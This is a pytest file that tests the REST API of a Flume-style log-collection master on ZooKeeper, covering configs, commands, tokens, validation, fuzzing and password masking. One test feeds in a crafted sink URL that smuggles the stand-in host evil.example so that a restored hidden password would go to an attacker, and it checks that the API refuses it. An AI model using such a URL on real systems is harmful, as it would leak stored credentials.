"""The REST API over a real MasterService on a real ZooKeeper (FastAPI TestClient)."""
from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient

from flume_og.master.api import create_app
from flume_og.master.service import MasterService

pytestmark = pytest.mark.timeout(60)

TOKEN = "a-test-token-0123456789"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture
def service(store, tmp_path):
    svc = MasterService(store, tmp_path / "master-data", name="api-master")
    yield svc
    svc.close()


@pytest.fixture
def client(service):
    with TestClient(create_app(service)) as c:
        yield c


@pytest.fixture
def locked(service):
    with TestClient(create_app(service, token=TOKEN)) as c:
        yield c


def test_health_and_docs(client):
    r = client.get("/api/health")
    assert r.status_code == 200 and r.json()["ok"] and r.json()["master"] == "api-master"
    docs = client.get("/docs")
    assert docs.status_code == 200
    # every script and style of the page comes from the master, none from a CDN
    import re
    assets = re.findall(r'(?:src|href)="([^"]+)"', docs.text)
    assert assets and all(a.startswith("/") for a in assets), assets
    for a in assets:
        if a.endswith((".js", ".css")):
            r = client.get(a)
            assert r.status_code == 200 and len(r.content) > 10_000, a
    paths = client.get("/openapi.json").json()["paths"]
    for path in ("/api/status", "/api/configs/{name}", "/api/commands", "/api/validate",
                 "/api/mappings/{physical}/{logical}", "/api/flows"):
        assert path in paths


def test_put_get_delete_config(client, store):
    r = client.put("/api/configs/web1", json={"source": 'tail("/var/log/a.log")',
                                              "sink": "{ batch(10) => null }"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["command"]["state"] == "SUCCEEDED"
    assert body["config"] == {**body["config"], "name": "web1", "flow": "default-flow",
                              "source": 'tail("/var/log/a.log")', "version": 0}
    assert client.get("/api/configs/web1").json()["sink"] == "{ batch(10) => null }"
    r = client.put("/api/configs/web1", json={"source": "asciisynth(1)", "sink": "null",
                                              "flow": "f2"})
    assert r.json()["config"]["flow"] == "f2" and r.json()["config"]["version"] == 1
    assert [c["name"] for c in client.get("/api/configs").json()] == ["web1"]
    assert client.delete("/api/configs/web1").status_code == 200
    assert store.get_logical("web1") is None
    assert client.get("/api/configs/web1").status_code == 404
    r = client.delete("/api/configs/web1")
    assert r.status_code == 404 and "no configuration" in r.json()["message"]


def test_bad_spec_answers_400_with_positions(client, store):
    r = client.put("/api/configs/n1", json={"source": "asciisynth(1)",
                                            "sink": "{ batch(10) => nosink }"})
    assert r.status_code == 400
    body = r.json()
    assert body["errors"] == [{"message": "unknown sink 'nosink'", "line": 1,
                               "column": 16, "part": "sink"}]
    assert body["message"].endswith("\n" + " " * 17 + "^")
    r = client.post("/api/commands", json={"command": "multiconfig",
                                           "args": ["a : null | null ;\nb : null | ("]})
    assert r.status_code == 400 and r.json()["errors"][0]["line"] == 2
    assert store.list_logical() == {}


def test_commands_endpoint_runs_any_command(client, store):
    r = client.post("/api/commands", json={"command": "map", "args": ["p1", "n1"]})
    assert r.status_code == 200 and r.json()["state"] == "SUCCEEDED"
    cid = r.json()["id"]
    assert client.get(f"/api/commands/{cid}").json()["command"] == "map"
    failed = client.post("/api/commands", json={"command": "unmap", "args": ["p1", "zz"]})
    assert failed.status_code == 200 and failed.json()["state"] == "FAILED"
    usage = client.post("/api/commands", json={"command": "map", "args": ["p1"]})
    assert usage.status_code == 400 and "usage: map" in usage.json()["message"]
    unknown = client.post("/api/commands", json={"command": "explode", "args": []})
    assert unknown.status_code == 400
    history = client.get("/api/commands", params={"limit": 2}).json()
    assert [c["state"] for c in history] == ["FAILED", "FAILED"]
    assert client.get("/api/commands/99999999").status_code == 404
    assert client.get("/api/commands/nope").status_code == 404
    assert client.get("/api/commands", params={"limit": 0}).status_code == 422


def test_mappings_endpoints(client, store):
    r = client.post("/api/mappings", json={"physical": "p1", "logical": "a"})
    assert r.status_code == 200 and r.json()["mappings"] == {"p1": ["a"]}
    r = client.post("/api/mappings", json={"physical": "p2", "logical": "a"})
    assert r.status_code == 409 and "already mapped to p1" in r.json()["message"]
    assert client.get("/api/mappings").json() == {"p1": ["a"]}
    assert client.delete("/api/mappings/p1/a").status_code == 200
    assert client.delete("/api/mappings/p1/a").status_code == 404
    assert store.get_mapping("p1") == []


def test_status_and_flows(client, store):
    store.register_physical("p1", {"host": "h1"})
    client.post("/api/mappings", json={"physical": "p1", "logical": "coll"})
    client.put("/api/configs/coll", json={"source": "autoCollectorSource", "sink": "null"})
    client.put("/api/configs/agent", json={"source": "asciisynth(1)", "sink": "autoBEChain"})
    st = client.get("/api/status").json()
    rows = {r["name"]: r for r in st["logical"]}
    assert rows["coll"]["state"] == "HELLO" and rows["coll"]["host"] == "h1"
    assert rows["agent"]["state"] == "UNMAPPED"
    assert rows["agent"]["tsink"].startswith('agentBEChain("h1:')
    assert st["physical"][0] == {**st["physical"][0], "name": "p1", "alive": True}
    flows = client.get("/api/flows").json()
    assert flows["default-flow"]["chains"] == {"agent": ["coll"]}


def test_validate_needs_no_token_and_stores_nothing(locked, store):
    r = locked.post("/api/validate", json={"source": "nosource(", "sink": "null"})
    assert r.status_code == 200
    body = r.json()
    assert not body["ok"] and body["errors"][0]["part"] == "source"
    assert "^" in body["message"]
    r = locked.post("/api/validate", json={"spec": "a : asciisynth(1) | null"})
    assert r.json() == {"ok": True, "errors": [], "message": "",
                        "canonical": {"spec": "a : asciisynth(1) | null ;\n"}}
    assert store.list_logical() == {}


def test_errors_of_a_long_one_line_spec_stay_small(client, store):
    # every error used to quote the whole line: 300 errors on a 7 kB line answered 2.2 MB
    # (a 76 kB spec 339 MB in 30 s); now the first 20, each quoting 120 characters
    spec = "".join(f"a{i}: nosuch{i} | null; " for i in range(300))
    r = client.post("/api/validate", json={"spec": spec})
    assert r.status_code == 200 and not r.json()["ok"]
    assert len(r.content) < 12_000, len(r.content)
    errors = r.json()["errors"]
    assert len(errors) == 21 and errors[0]["column"] == 5
    assert errors[-1] == {"message": "... and 280 more problems (the first 20 are shown)",
                          "line": None, "column": None, "part": "spec"}
    assert max(len(line) for line in r.json()["message"].split("\n")) <= 125
    sink = "[ " + ", ".join(f"nosink{i}" for i in range(300)) + " ]"
    r = client.put("/api/configs/n1", json={"source": "nosource", "sink": sink})
    assert r.status_code == 400 and len(r.content) < 12_000, len(r.content)
    assert r.json()["errors"][0] == {"message": "unknown source 'nosource'", "line": 1,
                                     "column": 1, "part": "source"}
    assert r.json()["errors"][-1]["part"] == "sink"
    assert r.json()["message"].endswith("... and 281 more problems (the first 20 are shown)")
    assert store.list_logical() == {}


def test_writes_need_the_token_when_set(locked, store):
    attempts = [("put", "/api/configs/n1", {"source": "null", "sink": "null"}),
                ("delete", "/api/configs/n1", None),
                ("post", "/api/mappings", {"physical": "p", "logical": "n1"}),
                ("delete", "/api/mappings/p/n1", None),
                ("post", "/api/commands", {"command": "noop", "args": []})]
    for method, path, body in attempts:
        kw = {"json": body} if body is not None else {}
        for headers in ({}, {"Authorization": "Bearer wrong"},
                        {"Authorization": TOKEN}, {"Authorization": "Basic " + TOKEN},
                        {"Authorization": "Bearer \u00e9t\u00e9".encode("latin-1")}):
            r = locked.request(method, path, headers=headers, **kw)
            assert r.status_code == 401, (method, path, headers, r.text)
            assert r.headers["www-authenticate"] == "Bearer"
    assert store.list_logical() == {} and store.list_commands() == []
    assert locked.get("/api/status").status_code == 200
    r = locked.put("/api/configs/n1", json={"source": "null", "sink": "null"}, headers=AUTH)
    assert r.status_code == 200
    r = locked.post("/api/commands", json={"command": "noop"}, headers=AUTH)
    assert r.status_code == 200 and r.json()["state"] == "SUCCEEDED"


def test_bad_input_never_gets_a_5xx(client):
    bad = [("put", "/api/configs/n1", {"source": 1, "sink": "null"}),
           ("put", "/api/configs/n1", {"source": "null"}),
           ("put", "/api/configs/n1", {"source": "null", "sink": "null", "extra": 1}),
           ("put", "/api/configs/n1", {"source": "x" * 70000, "sink": "null"}),
           ("put", "/api/configs/a%20b", {"source": "null", "sink": "null"}),
           ("put", "/api/configs/n1", {"source": "\ud800", "sink": "null"}),
           ("put", "/api/configs/\u00e9", {"source": 'text("\ud800")', "sink": "null"}),
           ("put", "/api/configs/n1", {"source": "null", "sink": "null", "flow": ""}),
           ("post", "/api/commands", {"command": "config", "args": [1, 2, 3]}),
           ("post", "/api/commands", {"command": "", "args": []}),
           ("post", "/api/commands", {"command": "noop", "args": ["99999999999"]}),
           ("post", "/api/commands", {"command": "config",
                                      "args": ["..", "null", "null"]}),
           ("post", "/api/commands", {"command": "save", "args": ["../../x"]}),
           ("post", "/api/commands", {"command": "multiconfig", "args": ["\x00"]}),
           ("post", "/api/mappings", {"physical": "a/b", "logical": "x"}),
           ("post", "/api/validate", {"spec": 5})]
    for method, path, body in bad:
        # json.dumps escapes lone surrogates as \\ud800, which a JSON client may send
        r = client.request(method, path, content=json.dumps(body),
                           headers={"content-type": "application/json"})
        assert 400 <= r.status_code < 500, (path, body, r.status_code, r.text)
        assert "message" in r.json() or "detail" in r.json()
    for text in ("{" * 5000, "[" * 5000, "x(" * 3000, "\x00"):
        r = client.post("/api/validate", json={"source": text, "sink": text})
        assert r.status_code == 200 and not r.json()["ok"], r.text
    r = client.post("/api/commands", content=b"{not json", headers={
        "content-type": "application/json"})
    assert 400 <= r.status_code < 500


def test_zookeeper_unreachable_answers_503(zk_server, zk_root, tmp_path):
    from flume_og.zk.client import connect
    from flume_og.zk.store import ConfigStore
    own = connect(zk_server.connect_string)
    store = ConfigStore(own, zk_root)
    store.ensure_layout()
    svc = MasterService(store, tmp_path / "m")
    svc.reconnect_seconds = 0.5      # the wait itself: tests/master/test_service.py
    try:
        with TestClient(create_app(svc)) as c:
            assert c.get("/api/status").status_code == 200
            own.stop()  # this master's connection is gone
            for method, path, body in (("get", "/api/status", None),
                                       ("get", "/api/configs", None),
                                       ("get", "/api/health", None),
                                       ("post", "/api/commands", {"command": "noop"}),
                                       ("put", "/api/configs/n", {"source": "null",
                                                                  "sink": "null"})):
                r = c.request(method, path, **({"json": body} if body else {}))
                assert r.status_code == 503, (path, r.text)
    finally:
        svc.close()
        own.start()
        store.remove_tree()
        own.stop()
        own.close()


def test_fuzzed_requests_never_get_a_5xx(client, store):
    """Random commands, arguments, names and bodies: every answer is below 500."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from urllib.parse import quote

    text = st.text(max_size=40)
    segment = text.map(lambda t: quote(t, safe=""))
    names = st.sampled_from(["config", "multiconfig", "unconfig", "map", "unmap",
                             "unmapAll", "decommission", "refresh", "refreshAll", "purge",
                             "purgeAll", "save", "load", "setChokeLimit", "CONFIG",
                             "set-choke-limit"]) | text
    spec_bits = st.sampled_from(["null", "asciisynth(1)", "{ batch(2) => null }", "[",
                                 "a : null | null ;", "tail(\"/x\")", "nosink", "<", "?"])
    args = st.lists(spec_bits | text, max_size=5)
    requests = st.one_of(
        st.tuples(st.just("post"), st.just("/api/commands"),
                  st.fixed_dictionaries({"command": names, "args": args})),
        st.tuples(st.just("put"), segment.map(lambda n: f"/api/configs/{n}"),
                  st.fixed_dictionaries({"source": spec_bits | text,
                                         "sink": spec_bits | text})),
        st.tuples(st.just("post"), st.just("/api/mappings"),
                  st.fixed_dictionaries({"physical": text, "logical": text})),
        st.tuples(st.just("post"), st.just("/api/validate"),
                  st.fixed_dictionaries({"spec": spec_bits | text})),
        st.tuples(st.sampled_from(["get", "delete"]),
                  st.tuples(st.sampled_from(["/api/configs/", "/api/commands/",
                                             "/api/mappings/p/"]), segment)
                  .map("".join), st.none()))

    @settings(max_examples=150, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(requests)
    def one(req):
        method, path, body = req
        r = client.request(method, path, **({"json": body} if body is not None else {}))
        assert r.status_code < 500, (method, path, body, r.status_code, r.text)

    one()
    # what was stored is still valid for the nodes
    from flume_og.node.spec import parse_sink, parse_source
    for cfg in store.list_logical().values():
        parse_source(cfg.source)
        parse_sink(cfg.sink)


SECRET_SINK = '{ batch(10) => dfs("ftp://AKIAKEY:SeCrEt@bucket/p") }'


def test_listings_hide_url_passwords_and_refuse_them_back(client, store):
    r = client.put("/api/configs/web1", json={"source": 'tail("/var/log/a.log")',
                                              "sink": SECRET_SINK})
    assert r.status_code == 200, r.text
    shown = SECRET_SINK.replace("AKIAKEY:SeCrEt@", "AKIAKEY:***@")
    assert r.json()["config"]["sink"] == shown
    assert "SeCrEt" not in json.dumps(r.json()["command"])
    client.post("/api/commands", json={"command": "config",
                                       "args": ["web2", "null", "dfs(\"https://tok@h/x\")"]})
    for path in ("/api/configs", "/api/configs/web1", "/api/status", "/api/commands",
                 "/api/flows"):
        text = client.get(path).text
        assert "SeCrEt" not in text and "tok@" not in text, path
    assert client.get("/api/configs/web1").json()["sink"] == shown
    assert "https://***@h/x" in client.get("/api/commands").text
    assert store.get_logical("web1").sink == SECRET_SINK   # ZooKeeper keeps the secret
    # a listing pasted back gets its password back: a new flow, then an edited spec
    r = client.put("/api/configs/web1", json={"source": 'tail("/var/log/a.log")',
                                              "sink": shown, "flow": "f2"})
    assert r.status_code == 200 and r.json()["config"]["flow"] == "f2", r.text
    assert store.get_logical("web1").sink == SECRET_SINK
    r = client.post("/api/commands", json={"command": "multiconfig", "args": [
        f"web1 : null | {shown.replace('batch(10)', 'batch(20)')} ;"]})
    assert r.status_code == 200 and r.json()["state"] == "SUCCEEDED", r.text
    assert store.get_logical("web1").sink == SECRET_SINK.replace("batch(10)", "batch(20)")
    # a hidden password that no stored config holds is refused, not stored as '***'
    for sink in ('dfs("ftp://OTHER:***@bucket/p")', 'dfs("https://***@elsewhere/x")'):
        r = client.put("/api/configs/web1", json={"source": "null", "sink": sink})
        assert r.status_code == 400 and "password a listing hid" in r.json()["message"]
    r = client.post("/api/commands", json={"command": "config", "args": [
        "web3", "null", 'dfs("ftp://OTHER:***@bucket/p")']})
    assert r.status_code == 400 and store.get_logical("web3") is None
    assert "***" not in store.get_logical("web1").sink


def test_a_pasted_back_password_never_goes_to_another_host(client, store):
    victim = 'dfs("ftp://ops:S3cretPw@ftp.corp/logs/app")'
    aws = 'dfs("ftp://AKIA:wJalr/K7MDENG+bPxRfiCY@bucket/logs")'
    for name, sink in (("victim", victim), ("aws", aws)):
        assert client.put(f"/api/configs/{name}", json={"source": "null", "sink": sink}
                          ).status_code == 200
    assert client.get("/api/configs/aws").json()["sink"] == 'dfs("ftp://AKIA:***@bucket/logs")'
    assert "wJalr" not in client.get("/api/configs").text
    # the review's paste: stored, fsspec sent the password to evil.example
    thief = 'dfs("ftp://ops:***@ftp.corp\\\\@evil.example/x/y")'
    r = client.put("/api/configs/thief", json={"source": "null", "sink": thief})
    assert r.status_code == 400, r.text
    assert "cannot be put back" in r.json()["message"]
    assert "type the password again" in r.json()["message"]
    assert "S3cretPw" not in r.text and store.get_logical("thief") is None
    # pasted back unchanged, both are restored
    r = client.put("/api/configs/aws", json={"source": "null", "flow": "f2",
                                             "sink": 'dfs("ftp://AKIA:***@bucket/logs")'})
    assert r.status_code == 200 and store.get_logical("aws").sink == aws


def test_read_token_guards_listings_but_not_health_or_console(service):
    with TestClient(create_app(service, token=TOKEN, read_token="read-token-0123456789")) as c:
        for path in ("/api/status", "/api/configs", "/api/commands", "/api/mappings",
                     "/api/flows"):
            r = c.get(path)
            assert r.status_code == 401 and "to read" in r.json()["message"], path
            assert c.get(path, headers={"Authorization": "Bearer read-token-0123456789"}
                         ).status_code == 200
            assert c.get(path, headers=AUTH).status_code == 200   # the write token reads
        assert c.post("/api/validate", json={"source": "null"}).status_code == 401
        assert c.get("/api/health").status_code == 200 and c.get("/").status_code == 200
        assert c.get("/api/health").json()["refused"]["refused_token"] == 6
        # the read token does not write
        r = c.post("/api/commands", json={"command": "noop"},
                   headers={"Authorization": "Bearer read-token-0123456789"})
        assert r.status_code == 401 and "for writes" in r.json()["message"]
        assert c.post("/api/commands", json={"command": "noop"}, headers=AUTH).json()[
            "state"] == "SUCCEEDED"


def test_large_specs_parse_two_at_a_time_and_past_max_arg_are_refused(monkeypatch):
    import threading
    import time as _time

    import flume_og.master.api as api

    class SlowValidation:   # stands for a parse of a large spec
        name = "slow"
        running = peak = 0
        lock = threading.Lock()

        def validate(self, source, sink, spec):
            with self.lock:
                self.running += 1
                self.peak = max(self.peak, self.running)
            _time.sleep(0.6)
            with self.lock:
                self.running -= 1
            return {"ok": True}

    monkeypatch.setattr(api, "HEAVY_WAIT", 0.3)
    svc = SlowValidation()
    big = {"spec": "a : null | null ;\n" * 5000}          # 90 kB: a heavy request
    with TestClient(create_app(svc)) as c:
        codes = []
        threads = [threading.Thread(target=lambda: codes.append(
            c.post("/api/validate", json=big).status_code)) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(10)
        assert sorted(codes) == [200, 200, 503] and svc.peak == 2
        # small specs never wait
        assert c.post("/api/validate", json={"spec": "a : null | null ;"}).status_code == 200
        r = c.post("/api/validate", json={"spec": "a : null | null ;\n" * 70000})  # 1.2 MB
        assert r.status_code == 422 and "at most 1048576 characters" in r.json()["message"]


def test_specs_past_the_nesting_and_size_bounds_answer_400_with_positions(client, store):
    from flume_og.node.spec import MAX_COMPONENTS, MAX_DEPTH
    chained = "{ " + "batch(1) => " * 1000 + "null }"
    r = client.put("/api/configs/n1", json={"source": "null", "sink": chained})
    assert r.status_code == 400, r.text
    [err] = r.json()["errors"]
    assert "nests too deeply" in err["message"] and err["part"] == "sink"
    assert (err["line"], err["column"]) == (1, 3 + len("batch(1) => ") * (MAX_DEPTH - 1))
    assert r.json()["message"].splitlines()[-1].strip() == "^"
    fanout = "[ " * 10_000 + "null" + " ]" * 10_000
    r = client.post("/api/commands", json={"command": "multiconfig",
                                           "args": [f"a : null | null ;\nb : null | {fanout}"]})
    assert r.status_code == 400 and r.json()["errors"][0]["line"] == 2, r.text
    wide = "[ " + ", ".join(["null"] * (MAX_COMPONENTS + 1)) + " ]"
    r = client.post("/api/validate", json={"source": "null", "sink": wide})
    assert r.status_code == 200 and not r.json()["ok"]
    assert "components" in r.text
    assert store.list_logical() == {}
    # just under the bound, the same shapes are accepted and stored
    ok = "{ " + "batch(1) => " * (MAX_DEPTH - 1) + "null }"
    r = client.put("/api/configs/n1", json={"source": "null", "sink": ok})
    assert r.status_code == 200, r.text
    assert client.get("/api/configs/n1").json()["sink"] == ok


def test_command_table_lists_every_command(client):
    from flume_og.master.command_table import COMMANDS
    r = client.get("/api/command-table")
    assert r.status_code == 200
    assert [c["name"] for c in r.json()] == [c.name for c in COMMANDS]
    assert {c["name"]: c["usage"] for c in r.json()}["config"] == \
        "config NODE [FLOW] SOURCE SINK"
    assert [c["name"] for c in r.json() if not c["writes"]] == ["noop"]
